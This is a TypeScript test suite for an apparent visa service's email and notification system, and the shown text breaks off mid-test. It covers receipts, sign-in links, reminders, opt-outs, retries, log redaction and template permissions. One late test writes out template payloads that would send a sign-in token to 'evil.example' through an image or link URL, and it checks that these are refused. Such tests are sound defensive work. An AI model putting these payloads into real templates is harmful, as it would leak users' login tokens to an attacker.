import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { Writable } from 'node:stream';
import { AppError } from '@wayfare/kit/errors';
import { createTestDb } from '@wayfare/kit/test-db';
import { createTestIdentity, startTestServer } from '@wayfare/kit/test-server';
import type { NoteStaffChangeRequest } from '@wayfare/proto/application/v1/desk_service';
import { NotificationServiceService, type TemplateInput } from '@wayfare/proto/notification/v1/notification_service';
import { TEMPLATE_TYPES, TEMPLATE_VARIABLES } from '@wayfare/proto/notification/v1/templates';
import { pino } from 'pino';
import { createProcessTask } from '../src/app/process-task.ts';
import { createWriteMail } from '../src/app/write-mail.ts';
import type { ApplicationClient, Contact } from '../src/clients/application-client.ts';
import { createDeskClient } from '../src/clients/desk-client.ts';
import { createMailer } from '../src/clients/mailer.ts';
import { createMailedTexter } from '../src/clients/texter.ts';
import { createApplicationAccounts } from '../src/db/application-accounts.ts';
import { createReminderStops } from '../src/db/reminder-stops.ts';
import { createTaskRepository } from '../src/db/task-repository.ts';
import { createTemplateChanges } from '../src/db/template-changes.ts';
import { createTemplateRepository } from '../src/db/template-repository.ts';
import { SAMPLE_VALUES } from '../src/domain/template-type.ts';
import { createApplicationEvents } from '../src/events/application-events.ts';
import { createJobHandlers } from '../src/job-handlers.ts';
import { buildServer } from '../src/server.ts';
import {
  aContact,
  aTemplate,
  caseChanged,
  contactSaved,
  jobsOf,
  paymentRefunded,
  paymentSucceeded,
  someAccounts,
  submitted,
  TASK_JOBS,
  threadChanged,
} from './fixtures.ts';
import { startMailCatcher } from './mail-catcher.ts';

const plainHash = (address: string) => createHash('sha256').update(address).digest('hex');

const start = async () => {
  const identity = await createTestIdentity();
  const { db, drop } = await createTestDb('notification', new URL('../migrations', `file://${__filename}`).pathname);
  const jobs = jobsOf(db);
  const tasks = createTaskRepository({ addJobs: jobs.add });
  const contact = {
    now: aContact() as Contact | undefined,
    clock: undefined as Date | undefined,
    /** Addresses of which the application service keeps something. */
    kept: new Set<string>(),
  };
  const application: ApplicationClient = {
    getContact: async () => {
      if (!contact.now) throw new AppError('NOT_FOUND', 'application-not-found');
      return contact.now;
    },
    hasApplications: async ({ email }) => contact.kept.has(email),
  };
  const reminderStops = createReminderStops({ key: randomBytes(32) });
  const accounts = someAccounts();
  const noted: NoteStaffChangeRequest[] = [];
  const desk = createDeskClient({
    client: {
      noteStaffChange: async (change) => {
        noted.push(change);
        return {};
      },
    },
  });
  const { services } = buildServer({ db, tasks, application, reminderStops, accounts: accounts.client, desk });
  const server = await startTestServer(services, identity);
  const catcher = await startMailCatcher();
  const logged: string[] = [];
  const log = pino(
    { level: 'trace' },
    new Writable({
      write: (line, _encoding, done) => {
        logged.push(String(line));
        done();
      },
    }),
  );
  const mailer = createMailer({ smtpUrl: catcher.url, from: 'Wayfare <mail@wayfare.test>' });
  const templates = createTemplateRepository();
  const processTask = createProcessTask({
    db,
    application,
    accounts: accounts.client,
    mailer,
    texter: createMailedTexter(mailer),
    templates,
    findChange: (id) => createTemplateChanges().get(db, id),
    reminderStops,
    linkAccount: (applicationId, userId) => createApplicationAccounts().add(db, applicationId, userId),
    addTask: (task) => db.transaction((tx) => tasks.add(tx, [task])),
    writeMail: createWriteMail({ db, templates, brand: 'Wayfare', log }),
    publicUrl: 'https://visa.test',
    brand: 'Wayfare',
    now: () => contact.clock ?? new Date(),
  });
  const worker = { log, handlers: createJobHandlers({ db, tasks, reminderStops, processTask, log }) };
  const processOne = () => jobs.runOne(worker, TASK_JOBS);
  const sweep = async () => {
    await jobs.add(db, 'sweep-tasks', ['']);
    await jobs.runOne(worker, ['sweep-tasks']);
  };
  return {
    db,
    server,
    catcher,
    accounts,
    contact,
    tasks,
    reminderStops,
    logged,
    noted,
    api: server.client(NotificationServiceService),
    processOne,
    sweep,
    /** Until nothing is due any more. */
    processAll: async () => {
      await sweep();
      while (await processOne());
    },
    stop: async () => {
      mailer.close();
      await catcher.close();
      await server.close();
      await drop();
    },
  };
};

let run: Awaited<ReturnType<typeof start>>;
beforeAll(async () => {
  run = await start();
});
afterAll(() => run?.stop());
beforeEach(async () => {
  await run.db.raw('truncate task, email_template, template_change, reminder_stop, application_account, inbox, outbox');
  await run.db.raw('delete from pgboss.job');
  run.catcher.mails.length = 0;
  run.catcher.refuse(false);
  run.accounts.known.clear();
  run.accounts.staff.clear();
  run.accounts.administrators.clear();
  run.accounts.goAway(false);
  run.contact.now = aContact();
  run.contact.clock = undefined;
  run.logged.length = 0;
  run.noted.length = 0;
  run.accounts.colleagues.length = 0;
});

const subjects = () => run.catcher.mails.map(({ subject }) => subject).sort();
const mailTo = (address: string) => run.catcher.mails.find(({ to }) => to === address);
/** The tasks that have ended, and how. */
const ended = async (): Promise<(string | null)[][]> =>
  (await run.db('task').whereNot({ status: 'pending' }).orderBy('kind')).map(({ status, kind, reason }) => [
    status,
    kind,
    reason,
  ]);
const askForLink = (email: string, locale = 'en') =>
  run.server.as({ service: 'gateway' }, () => run.api.sendSignInLink({ email, locale }));

describe('a payment that succeeded', () => {
  it('mails the receipt and a sign-in link, once, however often it is told', async () => {
    const paymentId = randomUUID();
    const applicationId = randomUUID();
    const eventId = randomUUID();
    await paymentSucceeded(run.db, { paymentId, applicationId, eventId });
    await paymentSucceeded(run.db, { paymentId, applicationId, eventId });
    await paymentSucceeded(run.db, { paymentId, applicationId });
    await run.processAll();

    expect(subjects()).toEqual(['Receipt for order 1a2b3c4d', 'Your sign-in link']);
    const receipt = run.catcher.mails.find(({ subject }) => subject.startsWith('Receipt'));
    expect(receipt?.to).toBe('grace@example.test');
    for (const fact of ['$122.64', 'United Kingdom ETA', '1a2b3c4d', 'https://visa.test/dashboard'])
      expect(receipt?.content).toContain(fact);
    const link = run.catcher.mails.find(({ subject }) => subject === 'Your sign-in link');
    const [issued] = run.accounts.issued.slice(-1);
    expect(link?.content).toContain(`https://visa.test/auth/link#token=${encodeURIComponent(issued?.token ?? '')}`);
    expect(link?.content).toContain('042042');
    expect(link?.content).toMatch(/text\/plain[\s\S]*text\/html/);
    expect(await ended()).toEqual([
      ['done', 'magic_link', null],
      ['done', 'receipt', null],
    ]);
  });

  it('mails what is given back, once for each amount', async () => {
    const paymentId = randomUUID();
    await paymentRefunded(run.db, { paymentId });
    await paymentRefunded(run.db, { paymentId });
    await run.processAll();
    expect(subjects()).toEqual(['A refund for order 1a2b3c4d']);
    for (const fact of ['$10.00 of the $122.64', 'final-submission'])
      expect(run.catcher.mails[0]?.content.replace(/=\r\n/g, '')).toContain(fact);
    await paymentRefunded(run.db, { paymentId, refundedMinor: 12_264 });
    await run.processAll();
    expect(subjects()).toHaveLength(2);
  });

  it('mails the receipt but no link to somebody whose address is staff’s', async () => {
    run.accounts.staff.add('grace@example.test');
    await paymentSucceeded(run.db);
    await run.processAll();
    expect(subjects()).toEqual(['Receipt for order 1a2b3c4d']);
  });

  it('mails nobody when the application is gone or nobody can be reached', async () => {
    run.contact.now = undefined;
    await paymentSucceeded(run.db);
    await run.processAll();
    run.contact.now = aContact({ email: 'guest@guest.invalid' });
    await paymentSucceeded(run.db);
    await run.processAll();
    expect(run.catcher.mails).toEqual([]);
    expect(await run.db('task').whereNot({ kind: 'recovery' }).distinct('status', 'reason').orderBy('reason')).toEqual([
      { status: 'skipped', reason: 'application-not-found' },
      { status: 'skipped', reason: 'unroutable' },
    ]);
  });
});

describe('a saved contact', () => {
  it('gets an account, tried until Keycloak is there', async () => {
    run.accounts.goAway(true);
    await contactSaved(run.db);
    await run.processOne();
    await run.processOne();
    expect(run.accounts.known.size).toBe(0);
    // The failure is logged, and nothing but this task waits for it.
    const failures = run.logged.filter((line) => line.includes('keycloak-away'));
    expect(failures.length).toBeGreaterThanOrEqual(2);
    expect(failures.join()).not.toMatch(/Grace|Hopper|example/);
    run.accounts.goAway(false);
    await run.processAll();
    expect([...run.accounts.known.keys()]).toEqual(['grace@example.test']);
    expect(run.accounts.named).toEqual([{ email: 'grace@example.test', firstName: 'Grace', lastName: 'Hopper' }]);
  });

  it('is asked once to confirm the address of a new account, in the applicant’s language', async () => {
    run.contact.now = aContact({ locale: 'es' });
    await contactSaved(run.db);
    await contactSaved(run.db);
    await run.processAll();
    expect(subjects()).toEqual(['Confirma tu correo electrónico']);
    const [mail] = run.catcher.mails;
    expect(mail?.to).toBe('grace@example.test');
    expect(mail?.content).toContain('https://visa.test/auth/link#token=');
    expect(mail?.content).toContain('042042');
    expect(await ended()).toEqual([
      ['done', 'account', null],
      ['done', 'account', null],
      ['done', 'confirmation', null],
    ]);
  });

  it('is asked nothing where the account was there before', async () => {
    run.accounts.known.set('grace@example.test', randomUUID());
    await contactSaved(run.db);
    await run.processAll();
    expect(run.catcher.mails).toEqual([]);
  });
});

describe('an application left half-way', () => {
  /** As if so many hours had gone by since. */
  const pass = async (hours: number) => {
    await run
      .db('task')
      .update({ next_attempt_at: run.db.raw(`next_attempt_at - make_interval(hours => ?)`, [hours]) });
    await run.processAll();
  };
  const leave = async () => {
    run.accounts.known.set('grace@example.test', randomUUID());
    await contactSaved(run.db);
    await run.processAll();
  };
  const reminders = () => run.catcher.mails.filter(({ subject }) => subject === 'Your application is not finished yet');

  it('is reminded of after a day and after five, and never again', async () => {
    await leave();
    await contactSaved(run.db, { applicationId: (await run.db('task').first('application_id')).application_id });
    await pass(23);
    expect(reminders()).toEqual([]);
    await pass(2);
    expect(reminders()).toHaveLength(1);
    await pass(4 * 24);
    expect(reminders()).toHaveLength(2);
    await pass(1_000);
    expect(run.catcher.mails).toHaveLength(2);
    const { content } = reminders()[0] as { content: string };
    for (const part of [
      'https://visa.test/application/resume',
      'United Kingdom ETA',
      'https://visa.test/reminders#mail=',
    ])
      expect(content).toContain(part);
    expect(content).toMatch(/^List-Unsubscribe:\s+<https:\/\/visa\.test\/api\/reminders\/[\w-]+\/stop>/m);
    expect(content).toMatch(/^List-Unsubscribe-Post: List-Unsubscribe=One-Click/m);
  });

  it('is not reminded of while somebody is at it, and later all the same', async () => {
    run.contact.now = aContact({ updatedAt: new Date() });
    await leave();
    await pass(25);
    expect(run.catcher.mails).toEqual([]);
    run.contact.now = aContact({ updatedAt: new Date(Date.now() - 30 * 3_600_000) });
    await pass(21);
    expect(reminders()).toHaveLength(1);
  });

  it.each(['APPLICATION_STATUS_PAID', 'APPLICATION_STATUS_SUBMITTED'])(
    'is not asked to pay once it is %s',
    async (status) => {
      await leave();
      run.contact.now = aContact({ status });
      await pass(1_000);
      expect(run.catcher.mails).toEqual([]);
    },
  );

  it('is reminded of when it was paid and not handed in, until it is', async () => {
    run.contact.now = aContact({ status: 'APPLICATION_STATUS_IN_PROGRESS', locale: 'fr' });
    await paymentSucceeded(run.db);
    await run.processAll();
    await pass(25);
    expect(subjects().filter((subject) => subject === 'Votre demande n’est pas encore terminée')).toHaveLength(1);
    run.contact.now = aContact({ status: 'APPLICATION_STATUS_SUBMITTED' });
    await pass(1_000);
    expect(run.catcher.mails).toHaveLength(3);
  });

  it('is not reminded where an earlier release kept that by a plain hash, which is keyed soon', async () => {
    await run.db('reminder_stop').insert({ address_hash: plainHash('grace@example.test') });
    await leave();
    await pass(25);
    expect(reminders()).toEqual([]);
    expect(await run.reminderStops.keyPlain(run.db)).toBe(1);
    expect(await run.reminderStops.keyPlain(run.db)).toBe(0);
    expect(JSON.stringify(await run.db('reminder_stop'))).not.toContain(plainHash('grace@example.test'));
    await leave();
    await pass(1_000);
    expect(reminders()).toEqual([]);
  });

  it('is no longer reminded of where that is not wanted, at this address and in any application', async () => {
    await leave();
    await pass(25);
    const mailId = reminders()[0]
      ?.content.match(/reminders#mail=3D([\w-]+)|reminders#mail=([\w-]+)/)
      ?.slice(1)
      .find(Boolean);
    const stop = (id: string) => run.server.as('nobody', () => run.api.stopReminders({ mailId: id }));
    expect(await stop(randomUUID())).toEqual({});
    expect(await stop('x')).toEqual({});
    expect(await run.db('reminder_stop')).toEqual([]);
    await stop(mailId ?? '');
    await stop(mailId ?? '');
    const kept = await run.db('reminder_stop');
    expect(kept).toHaveLength(1);
    expect(JSON.stringify(kept)).not.toContain('grace');
    // Not by a hash that a list of addresses finds out.
    expect(kept[0].address_hash).not.toContain(plainHash('grace@example.test'));
    await leave();
    await pass(1_000);
    expect(run.catcher.mails).toHaveLength(1);
    expect(await run.db('task').where({ reason: 'not-wanted' })).toHaveLength(3);
  });
});

describe('a submitted application', () => {
  it('is answered with the review notice in the applicant’s language', async () => {
    run.contact.now = aContact({ locale: 'fr', visaName: 'Tom & Jerry <b>' });
    const applicationId = randomUUID();
    await submitted(run.db, { applicationId });
    await submitted(run.db, { applicationId });
    await run.processAll();
    expect(subjects()).toEqual(['Demande reçue : commande 1a2b3c4d']);
    const { content } = run.catcher.mails[0] as { content: string };
    expect(content).toContain('Tom &amp; Jerry &lt;b&gt;');
    expect(content).toContain('https://visa.test/dashboard');
  });

  it('calls a visa without a name just a visa', async () => {
    run.contact.now = aContact({ visaName: '' });
    await submitted(run.db);
    await run.processAll();
    expect(run.catcher.mails[0]?.content).toContain('application for the visa');
  });

  it('is told by text where texts are wanted', async () => {
    run.contact.now = aContact({ smsNumber: '+447700900123' });
    await submitted(run.db);
    await run.processAll();
    expect(mailTo('sms+447700900123@sms.localhost')?.content).toContain(
      'Wayfare: we have received your application 1a2b3c4d',
    );
  });
});

describe('a case', () => {
  it('is told of once for each event, in the language of its owner, with the way to its page', async () => {
    run.contact.now = aContact({ locale: 'es' });
    const [applicationId, eventId] = [randomUUID(), randomUUID()];
    for (let times = 0; times < 2; times += 1)
      await caseChanged(run.db, 'information-requested', { applicationId, eventId, reason: 'glare' });
    await run.processAll();
    expect(subjects()).toEqual(['Necesitamos algo para el pedido 1a2b3c4d']);
    const { content } = run.catcher.mails[0] as { content: string };
    expect(content).toContain(`https://visa.test/application/final-submission?application=${applicationId}`);
    expect(content).toContain('Hay reflejos de luz en la imagen.');
    await caseChanged(run.db, 'information-requested', { applicationId, reason: 'blurred' });
    await run.processAll();
    expect(subjects()).toHaveLength(2);
  });

  it.each([
    ['visa-delivered', 'Your visa is here: order 1a2b3c4d'],
    ['visa-expiry-reminded', 'Your visa expires soon: order 1a2b3c4d'],
    ['government-refused', 'A decision on order 1a2b3c4d'],
    ['withdrawn-by-traveller', 'Order 1a2b3c4d is withdrawn'],
    ['cancelled', 'Order 1a2b3c4d is cancelled'],
  ])('tells of %s', async (event, subject) => {
    await caseChanged(run.db, event);
    await run.processAll();
    expect(subjects()).toEqual([subject]);
  });

  it('says nothing by mail of its other stages', async () => {
    for (const event of ['review-started', 'review-passed', 'handed-over', 'government-approved', 'case-closed'])
      await caseChanged(run.db, event);
    await run.processAll();
    expect(subjects()).toEqual([]);
  });

  it('leaves a reason out that it has no words for, whatever it holds', async () => {
    await caseChanged(run.db, 'cancelled', { reason: 'John Doe lied' });
    await run.processAll();
    expect(run.catcher.mails[0]?.content).not.toContain('John Doe');
    expect(run.catcher.mails[0]?.content).not.toContain('The reason');
    expect(JSON.stringify(await run.db('task').select())).not.toContain('John Doe');
  });
});

describe('a message of staff', () => {
  it.each([
    ['en', 'You have a new message: order 1a2b3c4d'],
    ['es', 'Tienes un mensaje nuevo: pedido 1a2b3c4d'],
    ['fr', 'Vous avez un nouveau message : commande 1a2b3c4d'],
  ])('is told of in %s, with the way to it', async (locale, subject) => {
    run.contact.now = aContact({ locale });
    const applicationId = randomUUID();
    await threadChanged(run.db, { applicationId, mailDue: true });
    await run.processAll();
    expect(subjects()).toEqual([subject]);
    const link = `https://visa.test/application/messages?application=${applicationId}`;
    expect(run.catcher.mails[0]?.content).toContain(link);
  });

  it('is told of once, and what needs no mail sends none', async () => {
    const [applicationId, eventId] = [randomUUID(), randomUUID()];
    for (let times = 0; times < 2; times += 1) await threadChanged(run.db, { applicationId, mailDue: true }, eventId);
    await threadChanged(run.db, { applicationId, mailDue: false });
    await run.processAll();
    expect(subjects()).toHaveLength(1);
  });
});

describe('the promised hand-over', () => {
  it.each([
    ['en', 'by Monday, November 23, 2026 at 10:30 AM GMT+1'],
    ['es', 'a más tardar el lunes, 23 de noviembre de 2026, 10:30 CET'],
    ['fr', 'au plus tard le lundi 23 novembre 2026 à 10:30 UTC+1'],
  ])('stands in the receipt and in the notice of the submission, with date and zone, in %s', async (locale, words) => {
    run.contact.now = aContact({ locale });
    await paymentSucceeded(run.db);
    await submitted(run.db);
    await run.processAll();
    const told = run.catcher.mails.filter(({ content }) => content.replaceAll(/\s+/g, ' ').includes(words));
    expect(told).toHaveLength(2);
  });

  it('is left out where no price is fixed yet', async () => {
    run.contact.now = aContact({ handOverBy: undefined });
    await submitted(run.db);
    await run.processAll();
    expect(run.catcher.mails[0]?.content).not.toMatch(/to the authority by/);
  });
});

describe('a mail that is not taken', () => {
  it('is sent once the server takes mails again, even by another process, under the same message id', async () => {
    run.catcher.refuse(true);
    await submitted(run.db);
    for (let tries = 0; tries < 3; tries += 1) await run.processOne();
    expect(run.catcher.mails).toEqual([]);
    expect(await run.db('task').where({ kind: 'application_review_notice' }).first()).toMatchObject({
      status: 'pending',
    });
    run.catcher.refuse(false);
    await run.processAll();
    expect(subjects()).toEqual(['Application received: order 1a2b3c4d']);
    const { id } = await run.db('task').where({ kind: 'application_review_notice' }).first();
    expect(run.catcher.mails[0]?.messageId).toBe(`<${id}@wayfare.test>`);
  });

  it('is given up after the last try, and said so', async () => {
    run.catcher.refuse(true);
    await submitted(run.db);
    await run.processAll();
    expect(await ended()).toEqual([
      ['failed', 'application_review_notice', 'mail-not-accepted'],
      ['skipped', 'sms_submitted', 'no-texts-wanted'],
    ]);
  });

  it('is sent although its job was lost, five minutes later', async () => {
    await submitted(run.db);
    await run.db('task').where({ kind: 'sms_submitted' }).delete();
    await run.db.raw('delete from pgboss.job');
    await run.processAll();
    expect(subjects()).toEqual([]);
    await run.db.raw(`update task set next_attempt_at = next_attempt_at - interval '5 minutes'`);
    await run.processAll();
    expect(subjects()).toHaveLength(1);
  });

  it('that the previous release left is sent: rows without a job, more than one batch of them, by one sweep', async () => {
    await run.db.raw(
      `insert into task (kind, application_id, status, attempts, next_attempt_at)
       select 'receipt', gen_random_uuid(), 'pending', 3, now() - interval '1 minute' from generate_series(1, 1201)`,
    );
    await run.sweep();
    const { rows } = await run.db.raw("select count(*)::int as jobs from pgboss.job where name = 'send-message'");
    expect(rows).toEqual([{ jobs: 1201 }]);
    await run.sweep();
    expect((await run.db.raw("select 1 from pgboss.job where name = 'send-message'")).rows).toHaveLength(1201);
    await run.processOne();
    expect(subjects()).toHaveLength(1);
  });

  it('is sent once where several workers look for it at the same time', async () => {
    await submitted(run.db);
    await Promise.all(Array.from({ length: 6 }, () => run.processOne()));
    expect(subjects()).toHaveLength(1);
  });

  it('leaves no address, name, token or number in the log', async () => {
    run.contact.now = aContact({ smsNumber: '+447700900123' });
    run.catcher.refuse(true);
    await paymentSucceeded(run.db);
    await submitted(run.db);
    await run.processOne();
    await run.processOne();
    run.catcher.refuse(false);
    await run.processAll();
    expect(run.logged.length).toBeGreaterThan(4);
    expect(run.logged.join()).not.toMatch(/example\.test|Grace|Hopper|4477|042042|token\//);
  });
});

describe('a sign-in link somebody asks for', () => {
  it('is answered alike for known, unknown, staff’s and the placeholder address, and reaches the known one only', async () => {
    run.accounts.known.set('known@example.test', randomUUID());
    run.accounts.staff.add('boss@example.test');
    for (const email of ['Known@Example.test', 'unknown@example.test', 'boss@example.test', 'guest@guest.invalid'])
      expect(await askForLink(email, 'es')).toEqual({});
    await run.processAll();
    expect(run.catcher.mails.map(({ to, subject }) => [to, subject])).toEqual([
      ['known@example.test', 'Tu enlace de acceso'],
    ]);
    expect(run.accounts.known.size).toBe(1);
    expect(await run.db('task').whereNotNull('recipient')).toEqual([]);
  });

  it('is one, however often it is asked for while it waits', async () => {
    run.accounts.known.set('known@example.test', randomUUID());
    await Promise.all([1, 2, 3].map(() => askForLink('known@example.test')));
    await run.processAll();
    expect(run.catcher.mails).toHaveLength(1);
    await askForLink('known@example.test');
    await run.processAll();
    expect(run.catcher.mails).toHaveLength(2);
  });

  it('is not sent when a quarter of an hour has gone by', async () => {
    run.accounts.known.set('known@example.test', randomUUID());
    await askForLink('known@example.test');
    run.contact.clock = new Date(Date.now() + 16 * 60_000);
    await run.processAll();
    expect(run.catcher.mails).toEqual([]);
  });

  it('is asked for by our own services only, with an address', async () => {
    const { server, api } = run;
    const call = () => api.sendSignInLink({ email: 'known@example.test', locale: 'en' });
    await expect(server.as('nobody', call)).rejects.toMatchObject({ code: 'PERMISSION_DENIED' });
    await expect(server.as({ roles: ['admin'] }, call)).rejects.toMatchObject({ code: 'PERMISSION_DENIED' });
    await expect(askForLink('a@b.test, c@d.test')).rejects.toMatchObject({
      code: 'INVALID_ARGUMENT',
      fields: [{ path: 'email', reason: 'not-an-email' }],
    });
  });
});

describe('the account of a person', () => {
  const erase = async (applicationId: string) => {
    const events = createApplicationEvents({ tasks: run.tasks });
    const event = { $case: 'erased' as const, erased: { applicationId, userId: '' } };
    await run.db.transaction((tx) => events.handle({ event }, { tx, eventId: randomUUID() }));
    await run.processAll();
  };
  const outcome = async () =>
    (await run.db('task').where({ kind: 'end_account' })).map(({ status, reason }) => reason ?? status);
  const apply = async (applicationId = randomUUID()) => {
    await contactSaved(run.db, { applicationId });
    await run.processAll();
    return applicationId;
  };
  const email = 'grace@example.test';

  it('ends with their last application, and not before', async () => {
    const [first, second] = [await apply(), await apply()];
    run.contact.kept.add(email);
    await erase(first);
    expect(run.accounts.known.has(email)).toBe(true);
    expect(await outcome()).toEqual(['has-applications']);
    run.contact.kept.clear();
    await erase(second);
    expect(run.accounts.known.has(email)).toBe(false);
    expect(await outcome()).toEqual(['has-applications', 'done']);
    expect(await run.db('application_account')).toEqual([]);
  });

  it('stays where it is staff’s', async () => {
    const id = await apply();
    run.accounts.staff.add(email);
    await erase(id);
    expect(run.accounts.known.has(email)).toBe(true);
    expect(await outcome()).toEqual(['not-for-staff']);
    run.accounts.staff.clear();
  });

  it('ends later where Keycloak is away', async () => {
    const id = await apply();
    run.accounts.goAway(true);
    await erase(id);
    expect(await outcome()).toEqual(['keycloak-away']);
    run.accounts.goAway(false);
    expect(run.accounts.known.has(email)).toBe(true);
  });
});

describe('templates', () => {
  const admin = <T>(work: (api: typeof run.api) => Promise<T>) =>
    run.server.as({ roles: ['admin'], email: 'admin@example.test' }, () => work(run.api));

  it('are for administrators only', async () => {
    const id = randomUUID();
    const calls: (() => Promise<unknown>)[] = [
      () => run.api.listTemplates({}),
      () => run.api.createTemplate(aTemplate()),
      () => run.api.updateTemplate({ id, details: aTemplate() }),
      () => run.api.deleteTemplate({ id }),
      () => run.api.previewTemplate(aTemplate()),
      () => run.api.sendTestMail({ id }),
      () => run.api.sendTestOfDraft(aTemplate()),
    ];
    for (const call of calls) {
      await expect(run.server.as('nobody', call)).rejects.toMatchObject({ code: 'UNAUTHENTICATED' });
      await expect(run.server.as({ roles: ['traveller'] }, call)).rejects.toMatchObject({ reason: 'staff-only' });
      await expect(run.server.as({ roles: ['finance'] }, call)).rejects.toMatchObject({
        reason: 'role-missing',
      });
    }
  });

  it('are created, listed newest first, changed and deleted', async () => {
    const first = await admin((api) => api.createTemplate(aTemplate()));
    const second = await admin((api) => api.createTemplate(aTemplate({ templateName: 'Second', isActive: false })));
    expect(first.details).toEqual(aTemplate());
    const changed = await admin((api) => api.updateTemplate({ id: first.id, details: aTemplate({ subject: 'New' }) }));
    expect(changed.details?.subject).toBe('New');
    expect((await admin((api) => api.listTemplates({}))).templates.map(({ id }) => id)).toEqual([second.id, first.id]);
    await admin((api) => api.deleteTemplate({ id: first.id }));
    await expect(admin((api) => api.deleteTemplate({ id: first.id }))).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(admin((api) => api.deleteTemplate({ id: 'x' }))).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });

  it('are refused with the name of the variable that is not theirs', async () => {
    const input = aTemplate({ htmlContent: '{{PASSPORT_NUMBER}}' });
    await expect(admin((api) => api.createTemplate(input))).rejects.toMatchObject({
      code: 'INVALID_ARGUMENT',
      reason: 'template-not-accepted',
      fields: [{ path: 'htmlContent', reason: 'unknown-variable' }],
      details: { unknown: 'PASSPORT_NUMBER' },
    });
    await expect(admin((api) => api.createTemplate(aTemplate({ templateType: 'spam' })))).rejects.toMatchObject({
      fields: [{ path: 'templateType', reason: 'unknown-type' }],
    });
  });

  it('can be looked at with sample values, and sent to oneself', async () => {
    const preview = await admin((api) => api.previewTemplate(aTemplate()));
    expect(preview).toEqual({
      subject: 'Paid: 1A2B3C4D',
      html: '<p>Thanks for $122.64, United Kingdom ETA</p>',
      text: 'Thanks for $122.64, United Kingdom ETA',
    });
    const { id } = await admin((api) => api.createTemplate(aTemplate({ isActive: false })));
    await admin((api) => api.sendTestMail({ id }));
    await run.processAll();
    expect(run.catcher.mails.map(({ to, subject }) => [to, subject])).toEqual([
      ['admin@example.test', 'Paid: 1A2B3C4D'],
    ]);
  });

  it('are sent to oneself as they are on the screen, saved or not, and forgotten once sent', async () => {
    await admin((api) => api.createTemplate(aTemplate()));
    await admin((api) => api.sendTestOfDraft(aTemplate({ subject: 'Draft: {{ORDER_NUMBER}}' })));
    const task = () => run.db('task').where({ kind: 'template_test' }).first();
    expect((await task()).facts.draft.subject).toBe('Draft: {{ORDER_NUMBER}}');
    await run.processAll();
    expect(run.catcher.mails.map(({ to, subject }) => [to, subject])).toEqual([
      ['admin@example.test', 'Draft: 1A2B3C4D'],
    ]);
    expect(await task()).toMatchObject({ status: 'done', recipient: null, facts: {} });
    await expect(
      admin((api) =>
        api.sendTestOfDraft(aTemplate({ templateType: 'magic_link', subject: 'In', htmlContent: '<p>In</p>' })),
      ),
    ).rejects.toMatchObject({ code: 'INVALID_ARGUMENT', reason: 'template-variable-missing' });
    const nameless = { roles: ['admin' as const], email: '' };
    await expect(run.server.as(nameless, () => run.api.sendTestOfDraft(aTemplate()))).rejects.toMatchObject({
      reason: 'no-address-of-your-own',
    });
  });

  it.each(TEMPLATE_TYPES)('of the type %s may show what the screen lists for it', async (templateType) => {
    const link = (name: string) => `<a href="{{${name}}}">x</a>`;
    const show = (name: string) => (/^(CONFIRMATION|OPT_OUT)_URL$/.test(name) ? link(name) : `{{${name}}}`);
    const words = (names: readonly string[]) => `<p>${names.map(show).join(' ')}</p>`;
    const listed: readonly string[] = TEMPLATE_VARIABLES[templateType];
    const preview = (names: readonly string[]) =>
      admin((api) => api.previewTemplate(aTemplate({ templateType, subject: 'x', htmlContent: words(names) })));
    expect((await preview(listed)).subject).toBe('x');
    const others = Object.keys(SAMPLE_VALUES).filter((name) => !listed.includes(name));
    for (const other of others)
      await expect(preview([...listed, other])).rejects.toMatchObject({ details: { unknown: other } });
  });

  it('take the place of our own letter, the reader’s language first', async () => {
    await admin((api) => api.createTemplate(aTemplate()));
    await admin((api) => api.createTemplate(aTemplate({ locale: 'es', subject: 'Pagado: {{ORDER_NUMBER}}' })));
    await admin((api) => api.createTemplate(aTemplate({ isActive: false, subject: 'Off' })));
    for (const locale of ['es', 'fr']) {
      run.contact.now = aContact({ locale });
      await paymentSucceeded(run.db);
      await run.processAll();
    }
    expect(subjects().filter((subject) => /^Pa/.test(subject))).toEqual(['Pagado: 1a2b3c4d', 'Paid: 1a2b3c4d']);
  });

  const secret = (over: Partial<TemplateInput> = {}) =>
    aTemplate({
      templateType: 'magic_link',
      subject: 'Sign in',
      htmlContent: '<a href="{{CONFIRMATION_URL}}">In</a> {{TOKEN}}',
      ...over,
    });

  it('that carry a secret are written by administrators alone', async () => {
    const { id } = await admin((api) => api.createTemplate(secret()));
    const other = await admin((api) => api.createTemplate(aTemplate({ isActive: false })));
    const calls: (() => Promise<unknown>)[] = [
      () => run.api.createTemplate(secret({ isActive: false })),
      () => run.api.createTemplate(secret({ templateType: 'confirmation' })),
      () => run.api.updateTemplate({ id, details: secret({ subject: 'Mine' }) }),
      () => run.api.updateTemplate({ id, details: aTemplate({ isActive: false }) }),
      () => run.api.updateTemplate({ id: other.id, details: secret({ isActive: false }) }),
      () => run.api.deleteTemplate({ id }),
      () => run.api.previewTemplate(secret()),
      () => run.api.sendTestMail({ id }),
      () => run.api.sendTestOfDraft(secret()),
    ];
    for (const call of calls)
      await expect(run.server.as({ roles: ['catalog'] }, call)).rejects.toMatchObject({
        code: 'PERMISSION_DENIED',
        reason: 'role-missing',
      });
    expect((await run.db('email_template').where({ id }).first()).subject).toBe('Sign in');
    await run.server.as({ roles: ['catalog'] }, () => run.api.updateTemplate({ id: other.id, details: aTemplate() }));
  });

  it('that let a link or code out of the mail are refused, and the built-in letter is sent in their place', async () => {
    const leaking = '<a href="{{CONFIRMATION_URL}}">In</a><img src="https://evil.example/?c={{TOKEN}}">';
    const { id } = await admin((api) => api.createTemplate(secret({ htmlContent: leaking })));
    const missing = secret({ isActive: false, htmlContent: '<a href="https://evil.example/?{{TOKEN}}">In</a>' });
    await expect(admin((api) => api.createTemplate(missing))).rejects.toMatchObject({
      reason: 'template-variable-misplaced',
      details: { names: 'TOKEN' },
    });
    await paymentSucceeded(run.db);
    await run.processAll();
    const mailed = run.catcher.mails.find(({ subject }) => subject === 'Sign in');
    expect(mailed?.content).toContain('https://visa.test/auth/link#token=');
    expect(mailed?.content).not.toContain('evil');

    await run.db('email_template').where({ id }).update({ html_content: '<a href="https://evil.example/?{{TOKEN}}">' });
    run.catcher.mails.length = 0;
    await paymentSucceeded(run.db);
    await run.processAll();
    expect(subjects()).toContain('Your sign-in link');
    expect(run.catcher.mails.map(({ content }) => content).join()).not.toContain('evil');
  });

  it('are active once for each type and language', async () => {
    const first = await admin((api) => api.createTemplate(aTemplate()));
